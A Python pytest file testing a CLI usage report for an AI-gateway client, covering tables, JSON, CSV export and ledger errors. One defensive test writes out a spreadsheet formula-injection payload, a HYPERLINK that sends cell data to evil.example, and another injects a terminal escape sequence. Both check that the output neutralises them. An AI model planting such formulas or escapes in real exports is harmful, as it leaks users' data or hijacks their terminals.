"""`sidelight usage`: the table, the object, the spreadsheet, and ledgers that are not there."""

from __future__ import annotations

import csv
import io
import json
import time
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from sidelight_client.adapters.folders import folders
from sidelight_client.adapters.usage_file import LedgerFile, aside_of
from sidelight_client.cli import main
from sidelight_client.cli.usage import _report
from sidelight_client.cli.usage_show import Report, as_csv, as_json, as_text
from sidelight_client.domain.identity.session import Phase
from sidelight_client.domain.routing.breaker import BreakerState
from sidelight_client.domain.snapshot import DecisionView, GatewayView, SessionView, Snapshot
from sidelight_client.domain.spending.budget import Budget, Purse, Scope, Unit
from sidelight_client.domain.spending.usage import By

NOW = time.time()
ANSWERED = DecisionView(
    trace_id="0af7651916cd43dd8448eb211c80319c",
    at=NOW - 60,
    outcome="completed",
    reason="",
    tier="fast",
    language="python",
    total_s=0.18,
    prompt_tokens=1_200,
    cached_tokens=900,
    output_tokens=17,
    sends=1,
    endpoint="https://ai.acme.example",
    model="acme-fast",
    editor="Neovim 0.11.2",
    gateway_s=0.17,
    first_s=0.16,
    cost=0.000_25,
)
BLOCKED = replace(
    ANSWERED,
    outcome="blocked",
    reason="us_ssn",
    language="sql",
    total_s=0.05,
    prompt_tokens=None,
    cached_tokens=None,
    output_tokens=None,
    cost=None,
)
SNAPSHOT = Snapshot(
    1,
    NOW,
    "0.1.0",
    SessionView(Phase.FRESH),
    GatewayView("Acme AI", "https://ai.acme.example", breaker=BreakerState.CLOSED),
    Budget(
        (
            Purse(Scope.USER, Unit.REQUESTS, 120, 3600, used=41, source="headers", as_of=NOW),
            Purse(Scope.TEAM, Unit.REQUESTS, 800, 3600),
            Purse(Scope.ORG, Unit.COST, 5000, 86_400, hard=False, used=12.5, source="gateway"),
        )
    ),
)


@pytest.fixture
def path() -> Path:
    return folders().state / "usage.db"


def record(path: Path, *requests: DecisionView) -> None:
    file = LedgerFile(path)
    file.append(requests)
    file.close()


def report(path: Path, by: By = By.DAY, snapshot: Snapshot | None = SNAPSHOT) -> Report:
    return _report(path, by, NOW - 86_400, NOW, snapshot)


def usage(capsys: pytest.CaptureFixture[str], *arguments: str) -> tuple[int, str, str]:
    code = main(["usage", *arguments])
    out, err = capsys.readouterr()
    return code, out, err


def usage_json(capsys: pytest.CaptureFixture[str], *arguments: str) -> dict[str, Any]:
    code, out, _ = usage(capsys, "--json", *arguments)
    assert code == 0
    found: dict[str, Any] = json.loads(out)
    return found


def test_before_the_first_request_it_says_so_and_creates_nothing(
    path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    code, out, err = usage(capsys)
    assert (code, err) == (0, "")
    assert out.startswith("No request was recorded since ")
    assert "No broker is running" in out
    assert not path.parent.exists()


def test_the_table_is_aligned_and_says_who_counted(path: Path) -> None:
    record(path, ANSWERED, ANSWERED, BLOCKED)
    told = as_text(report(path, By.LANGUAGE))
    assert told[0].endswith(", by language:")
    words = [" ".join(line.split()) for line in told[2:6]]
    assert words[0].startswith("language requests answered blocked limited failed given up tokens")
    assert words[1:] == [
        "python 2 2 0 0 0 0 2,400 75% 34 180 ms 180 ms 0.0005",
        "sql 1 0 1 0 0 0 – – – – – –",
        "all 3 2 1 0 0 0 2,400 75% 34 180 ms 180 ms 0.0005",
    ]
    assert len({len(line) for line in told[2:6]}) == 1
    assert told[-4:] == [
        "Limits of Acme AI:",
        "  user: 41 of 120 requests, says the gateway with its answers; this machine sent 3.",
        "  team: – of 800 requests, nobody says how much.",
        "  org: 12.5 of 5,000 cost (soft), says the gateway.",
    ]


def test_a_sum_of_some_requests_only_says_at_least(path: Path) -> None:
    record(path, ANSWERED, replace(ANSWERED, prompt_tokens=None, cost=None))
    (row,) = [line for line in as_text(report(path)) if line.startswith("all")]
    assert "≥1,200" in row
    assert "≥0.0003" in row or "≥0.0002" in row


def test_the_object_says_of_each_number_where_it_came_from(path: Path) -> None:
    record(path, ANSWERED, BLOCKED)
    found = as_json(report(path, By.TIER))
    assert found["total"] == {
        "requests": 2,
        "sends": 2,
        "outcomes": {"blocked": 1, "completed": 1},
        "prompt_tokens": {"total": 1_200, "told_by": 1, "source": "gateway"},
        "cached_tokens": {"total": 900, "told_by": 1, "source": "gateway"},
        "output_tokens": {"total": 17, "told_by": 1, "source": "gateway"},
        "cost": {"total": 0.00025, "told_by": 1, "source": "gateway"},
        "cached_ratio": 0.75,
        "p50_ms": 180.0,
        "p95_ms": 180.0,
        "source": "ledger",
    }
    assert found["groups"] == [{"key": "fast", **found["total"]}]
    assert [(limit["used"], limit["source"], limit["counted"]) for limit in found["limits"]] == [
        (41, "headers", 2),
        (None, None, 2),
        (12.5, "gateway", 0.00025),
    ]
    assert found["limits"][0]["difference"] == 39
    assert found["ledger"] == {"path": str(path), "found": True, "set_aside": None}


def test_without_a_broker_limits_are_unknown_and_not_none(
    path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    record(path, ANSWERED)
    found = usage_json(capsys)
    assert (found["limits"], found["gateway"]) == (None, None)
    assert found["total"]["requests"] == 1


@pytest.mark.parametrize("by", By)
def test_every_way_of_grouping_can_be_asked_for(
    path: Path, capsys: pytest.CaptureFixture[str], by: By
) -> None:
    record(path, ANSWERED, BLOCKED)
    found = usage_json(capsys, "--by", by.value)
    assert found["by"] == by.value
    assert sum(group["requests"] for group in found["groups"]) == 2


def test_only_what_was_asked_since_a_moment_counts(
    path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    ages_d = (0.5, 3, 10, 50)
    record(path, *(replace(ANSWERED, at=NOW - days * 86_400) for days in ages_d))
    counts = [
        usage_json(capsys, "--since", since)["total"]["requests"]
        for since in ("24h", "7d", "4w", "2020-01-31")
    ]
    assert counts == [1, 2, 3, 4]


@pytest.mark.parametrize("since", ["", "7", "7y", "-7d", "d", "2026-13-01", "yesterday", "99999d"])
def test_a_moment_that_is_none_is_refused_with_what_to_write(
    capsys: pytest.CaptureFixture[str], since: str
) -> None:
    with pytest.raises(SystemExit) as ended:
        main(["usage", f"--since={since}"])
    assert ended.value.code == 2
    assert "write 24h, 7d, 4w" in capsys.readouterr().err


def test_the_spreadsheet_has_a_line_for_every_request(
    path: Path, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    record(path, ANSWERED, BLOCKED)
    file = tmp_path / "usage.csv"
    code, _, _ = usage(capsys, "--csv", str(file))
    assert code == 0
    with file.open(encoding="utf-8", newline="") as text:
        rows = list(csv.DictReader(text))
    assert len(rows) == 2
    assert rows[0]["trace_id"] == ANSWERED.trace_id
    assert (rows[0]["prompt_tokens"], rows[0]["cost"]) == ("1200", "0.000250000")
    assert (rows[1]["prompt_tokens"], rows[1]["cost"], rows[1]["reason"]) == ("", "", "us_ssn")


@pytest.mark.parametrize(
    "begin", ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20"]
)
def test_no_cell_of_the_spreadsheet_is_a_formula(begin: str) -> None:
    evil = f'{begin}HYPERLINK("http://evil.example/?x="&A1,"ok")'
    request = replace(ANSWERED, model=evil, editor=evil, language=evil, reason=evil)
    _, row = csv.reader(io.StringIO("".join(as_csv([request])), newline=""))
    assert row.count(f"'{evil}") == 4
    assert not [cell for cell in row if cell.startswith(begin)]


def test_no_request_makes_a_spreadsheet_with_headings_alone() -> None:
    assert "".join(as_csv([])).split(",")[0] == "at"


def test_a_spreadsheet_that_cannot_be_written_is_one_sentence(
    path: Path, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    record(path, ANSWERED)
    code, out, err = usage(capsys, "--csv", str(tmp_path / "no" / "such" / "folder.csv"))
    assert code == 1
    assert out == ""
    assert err.strip().endswith("[storage.unwritable]")


def test_a_ledger_that_cannot_be_read_is_one_sentence_and_stays_as_it_is(
    path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path.parent.mkdir()
    path.write_bytes(b"no database at all" * 1000)
    code, out, err = usage(capsys)
    assert (code, out) == (1, "")
    assert err.strip().endswith("[ledger.unreadable]")
    assert path.read_bytes().startswith(b"no database")


def test_an_earlier_ledger_that_was_set_aside_is_told_of(path: Path) -> None:
    record(path, ANSWERED)
    aside_of(path).write_bytes(b"damaged")
    told = as_text(report(path))[-1]
    assert f"it was moved to {aside_of(path)}." in told
    assert "Counting began anew" in told
    assert as_json(report(path))["ledger"]["set_aside"] == str(aside_of(path))


def test_a_name_cannot_command_the_terminal(path: Path) -> None:
    record(path, ANSWERED)
    shown = report(path, By.TIER)
    (group,) = shown.summary.groups
    evil = replace(shown.summary, groups=(replace(group, key="fast\x1b]0;x\x07"),))
    assert not [line for line in as_text(replace(shown, summary=evil)) if "\x1b" in line]


def test_a_gateway_without_limits_is_told_so(path: Path) -> None:
    record(path, ANSWERED)
    no_limits = replace(SNAPSHOT, budget=Budget())
    assert as_text(report(path, snapshot=no_limits))[-1] == "Acme AI has told of no limit."


def test_the_tiers_are_told_with_their_share_of_requests_and_cost(path: Path) -> None:
    """A few heavy requests can be half of the cost."""
    requests = [("fast", 0.01)] * 9 + [("heavy", 0.09)]
    for number, (tier, cost) in enumerate(requests):
        record(path, replace(ANSWERED, trace_id=f"{number:032x}", tier=tier, cost=cost))
    told = "\n".join(as_text(report(path, By.TIER)))
    assert "fast 90% of the requests and 50% of the cost" in told
    assert "heavy 10% of the requests and 50% of the cost" in told
    assert "Shares" not in "\n".join(as_text(report(path, By.DAY)))
